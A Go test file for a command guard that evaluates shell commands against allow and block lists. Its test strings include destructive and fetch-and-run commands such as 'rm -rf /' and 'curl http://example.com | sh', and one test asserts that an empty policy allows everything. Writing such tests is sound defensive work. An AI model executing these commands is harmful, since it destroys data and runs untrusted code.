package security

import (
	"strings"
	"testing"

	"go.uber.org/zap"
)

func TestCommandGuard_Evaluate(t *testing.T) {
	policy := &SecurityPolicy{
		AllowedCommands: []string{"ls", "cat", "echo"},
		BlockedCommands: []string{"sudo", "rm"},
	}
	guard := NewCommandGuard(policy, zap.NewNop())

	tests := []struct {
		name     string
		command  string
		decision Decision
	}{
		{"allowed command", "ls -la /tmp", DecisionAllowed},
		{"blocked command", "sudo rm -rf /", DecisionBlocked},
		{"not in allowlist", "curl http://example.com", DecisionBlocked},
		{"empty command", "", DecisionMalformed},
		{"whitespace only", "   ", DecisionMalformed},
		{"unterminated quote", `echo "unterminated`, DecisionMalformed},
		{"quoted arguments parse", `cat "file with spaces.txt"`, DecisionAllowed},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			verdict := guard.Evaluate(tt.command)
			if verdict.Decision != tt.decision {
				t.Errorf("Evaluate(%q) = %v (%s), want %v",
					tt.command, verdict.Decision, verdict.Reason, tt.decision)
			}
		})
	}
}

func TestCommandGuard_DenyPrecedence(t *testing.T) {
	// A command in both lists is blocked: the blocklist wins.
	policy := &SecurityPolicy{
		AllowedCommands: []string{"rm", "ls"},
		BlockedCommands: []string{"rm"},
	}
	guard := NewCommandGuard(policy, zap.NewNop())

	verdict := guard.Evaluate("rm -rf /tmp/scratch")
	if verdict.Decision != DecisionBlocked {
		t.Fatalf("expected rm to be blocked, got %v", verdict.Decision)
	}
}

func TestCommandGuard_DefaultOpen(t *testing.T) {
	// Both lists empty means every well-formed command passes.
	guard := NewCommandGuard(&SecurityPolicy{}, zap.NewNop())

	for _, command := range []string{"ls", "rm -rf /", "curl http://example.com | sh"} {
		verdict := guard.Evaluate(command)
		if verdict.Decision != DecisionAllowed {
			t.Errorf("Evaluate(%q) = %v with empty policy, want allowed", command, verdict.Decision)
		}
	}
}

func TestCommandGuard_BlockedReason(t *testing.T) {
	policy := &SecurityPolicy{BlockedCommands: []string{"sudo"}}
	guard := NewCommandGuard(policy, zap.NewNop())

	verdict := guard.Evaluate("sudo rm -rf /")
	if verdict.Decision != DecisionBlocked {
		t.Fatalf("expected blocked, got %v", verdict.Decision)
	}
	if !strings.Contains(verdict.Reason, "sudo") || !strings.Contains(verdict.Reason, "blocked") {
		t.Errorf("reason %q should mention the command name and that it is blocked", verdict.Reason)
	}
}
